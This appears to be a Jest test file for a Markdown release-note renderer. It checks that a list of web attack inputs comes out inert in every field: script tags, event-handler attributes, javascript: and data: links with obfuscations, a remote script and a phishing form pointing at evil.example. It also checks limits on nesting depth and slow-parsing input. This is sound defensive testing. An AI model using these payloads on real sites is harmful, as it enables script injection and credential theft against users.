import { describe, expect, it } from '@jest/globals';
import { contentHash } from '@tidings/vocabulary';
import type { ReleaseNote } from '../release-note.js';
import { aNote } from '../../test/a-note.js';
import { renderMarkdown } from './render-markdown.js';
import { renderNote, type RenderedNote } from './render-note.js';

const BIDI = '\u202e';

/** Inputs by what their sender hopes for. Every one goes into every Markdown field and every plain field of a note. */
const ATTACKS: Readonly<Record<string, string>> = {
  'a script element': '<script>alert(1)</script>',
  'a script element in capitals across lines': 'a\n\n<SCRIPT\nsrc="https://evil.example/x.js">\n</SCRIPT>',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'a vector image with a handler': '<svg/onload=alert(1)>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'an unfinished tag': '<img src="https://evil.example/?',
  'a style sheet': '<style>body{display:none}</style>',
  'a base element that moves all links': '<base href="https://evil.example/">',
  'a form that asks for a password': '<form action="https://evil.example"><input name=pin></form>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a comment that swallows the page': '<!-- ',
  'a CDATA section': '<![CDATA[<script>alert(1)</script>]]>',
  'a foreign image': '![x](https://evil.example/pixel.png)',
  'a foreign image by reference': '![x][p]\n\n[p]: https://evil.example/pixel.png',
  'a javascript link': '[x](javascript:alert(1))',
  'a javascript link in mixed case': '[x](JaVaScRiPt:alert(1))',
  'a javascript link written as entities': '[x](&#106;avascript&colon;alert(1))',
  'a javascript link broken by a tab': '[x](java&#9;script:alert(1))',
  'a javascript link by reference': '[x][j]\n\n[j]: javascript:alert(1)',
  'a javascript autolink': '<javascript:alert(1)>',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'a vbscript link': '[x](vbscript:msgbox)',
  'a plain http link': '[x](http://evil.example/)',
  'a link that leaves by two slashes': '[x](//evil.example/)',
  'a link that leaves by a backslash': '[x](/\\\\evil.example/)',
  'a link that leaves by a tab between slashes': '[x](/&#9;/evil.example/)',
  'a link that wears our name as its user': '[x](https://tidings.example@evil.example/)',
  'a link title that closes its attribute': '[x](https://ok.example/ "\\" onmouseover=\\"alert(1)")',
  'a link target that closes its attribute': '[x](https://ok.example/"onmouseover="alert(1))',
  'a bare address without https': 'www.evil.example and someone@evil.example',
  'a footnote that claims identifiers': 'x[^1]\n\n[^1]: <b id="main">y</b>',
  'a task list with inputs': '- [x] <input autofocus onfocus=alert(1)>',
  'a heading that replaces the page title': '# Recall cancelled\n\n<h1>Recall cancelled</h1>',
  'code that breaks out of its block': '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  'a table cell with a handler': '| a |\n|---|\n| <td onclick=alert(1)>b |',
  'text turned around': `Do not ${BIDI}llatsni${BIDI}`,
  'a null character inside a tag': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'tag characters that hide words': 'ok\u{e0041}\u{e0042}\u{e007f}',
};

const OUTPUT_TAG =
  /^<(?:\/?(?:p|em|strong|del|code|pre|ul|ol|li|blockquote|h4|h5|table|thead|tbody|tr|th|td|a)|br|ol start="\d+"|a href="[^"<>\s]*"(?: rel="noopener noreferrer")?)>$/;
const HREF = /href="([^"]*)"/g;

const textsOf = (value: unknown): readonly string[] =>
  typeof value === 'string'
    ? [value]
    : typeof value === 'object' && value !== null
      ? Object.values(value).flatMap(textsOf)
      : [];

const fragmentsOf = (value: unknown): readonly string[] =>
  typeof value !== 'object' || value === null
    ? []
    : Object.entries(value).flatMap(([key, inner]) =>
        typeof inner === 'string' ? (/html$/i.test(key) ? [inner] : []) : fragmentsOf(inner),
      );

const everywhere = (text: string): ReleaseNote =>
  aNote({
    title: text,
    name: text,
    headline: text,
    summary: text,
    glance: text,
    execution: {
      why: text,
      changes: text,
      time: { text, minutes: 1, basis: 'tested' },
      unavailable: text,
      instructions: text,
      refusal: { isAllowed: true, answer: text, consequence: text },
      goingBack: text,
    },
    essentials: [{ term: text, text }],
    improvements: [
      {
        key: 'x',
        kind: 'new',
        impact: 'better',
        title: text,
        short: text,
        sections: [{ name: 'why', text }],
        appliesTo: { models: [text] },
      },
    ],
    chapters: [{ key: 'y', title: text, text, technical: text }],
    knownIssues: [{ key: 'z', text, appliesTo: { models: [text] } }],
    askUs: { text, until: '2026-12-12' },
    correction: { kind: 'typo', at: '2026-11-22T10:40:00+01:00', text },
  });

describe('a note rendered for its pages', () => {
  it.each(Object.entries(ATTACKS))('leaves %s inert in every field', (_name, attack) => {
    const rendered: RenderedNote = renderNote(everywhere(attack));
    const fragments = fragmentsOf(rendered);
    expect(fragments).toHaveLength(14);
    for (const html of fragments) {
      // The printer escapes every '<' of a text, so each one left opens a tag.
      for (const tag of html.match(/<[^>]*>?/g) ?? []) expect(tag).toMatch(OUTPUT_TAG);
      for (const [, href] of html.matchAll(HREF)) expect(href).toMatch(/^https:\/\/[a-z.]+\//);
    }
    for (const text of textsOf(rendered)) {
      expect(text).not.toMatch(/(?!\n)\p{Cc}|[\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u);
    }
  });

  it.each([
    ['quotations nested ten thousand deep', '>'.repeat(10_000)],
    ['quotations nested thirty deep', '> '.repeat(30) + 'x'],
    ['lists nested thirty deep', '- '.repeat(30) + 'x'],
    ['lists nested by indentation', Array.from({ length: 30 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['a text of twenty thousand and one characters', 'x'.repeat(20_001)],
  ])('refuses %s', (_name, text) => {
    expect(() => renderMarkdown(text)).toThrow(expect.objectContaining({ code: 'note-not-valid' }));
  });

  it.each([
    ['brackets', '['.repeat(5_000)],
    ['emphasis', '*a _'.repeat(2_000)],
    ['backticks', '`a``'.repeat(2_000)],
    ['links', '[a]('.repeat(2_000)],
  ])(
    'is done in a moment with a text that is nothing but %s',
    (_name, text) => {
      expect(renderMarkdown(text)).not.toMatch(/<a /);
    },
    10_000,
  );

  it('keeps what people write: emphasis, lists, tables, code and good links', () => {
    const html = renderMarkdown(
      '*a* **b** `c`\n\n- d\n\n| e |\n|---|\n| f |\n\n[g](https://ok.example/) [h](/en-GB/releases)',
    );
    expect(html).toContain('<p><em>a</em> <strong>b</strong> <code>c</code></p>');
    expect(html).toContain('<li>d</li>');
    expect(html).toContain('<td>f</td>');
    expect(html).toContain(
      '<a href="https://ok.example/" rel="noopener noreferrer">g</a> <a href="/en-GB/releases">h</a>',
    );
  });

  it('keeps the tilde of about and the joiners of other scripts', () => {
    expect(renderMarkdown('~40 or ~50, می\u200cخواهم')).toBe('<p>~40 or ~50, می\u200cخواهم</p>');
  });

  it('answers the questions in the order people ask them and joins the choice with its consequence', () => {
    const { execution } = renderNote(aNote({}));
    expect(execution.map(({ question }) => question)).toEqual([
      'why',
      'time',
      'unavailable',
      'instructions',
      'refusal',
    ]);
    expect(execution.at(-1)?.html).toBe('<p>Yes. Nothing stops working.</p>');
  });

  it('carries a hash over everything it says', () => {
    const { hash, ...content } = renderNote(aNote({}));
    expect(hash).toBe(contentHash(content));
    expect(hash).toBe(contentHash(JSON.parse(JSON.stringify(content))));
    expect(renderNote(aNote({ summary: 'Another sentence.' })).hash).not.toBe(hash);
  });
});
